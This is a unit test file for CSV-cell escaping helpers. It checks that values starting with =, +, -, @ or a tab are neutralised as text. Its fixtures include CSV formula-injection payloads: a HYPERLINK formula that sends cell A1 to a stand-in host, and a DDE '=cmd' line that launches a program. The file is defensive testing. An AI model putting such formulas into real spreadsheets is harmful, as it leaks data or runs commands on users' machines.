import { describe, expect, it } from 'vitest';
import { csvCell, csvFile } from './csv.js';

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"Click")', `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`],
    ['=cmd|\' /C calc\'!A0', `'=cmd|' /C calc'!A0`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\tTab', `'\tTab`],
  ])('writes %j so that it opens as text', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('leaves numbers, suppressed counts and months as they are, and quotes commas, quotes and line breaks', () => {
    expect(['12', '-3', '1.5', 'c', '2026-03', 'Green'].map(csvCell)).toEqual(['12', '-3', '1.5', 'c', '2026-03', 'Green']);
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
    expect(csvFile([['Month', 'x'], ['2026-01', '=1']])).toBe("Month,x\r\n2026-01,'=1\r\n");
  });
});
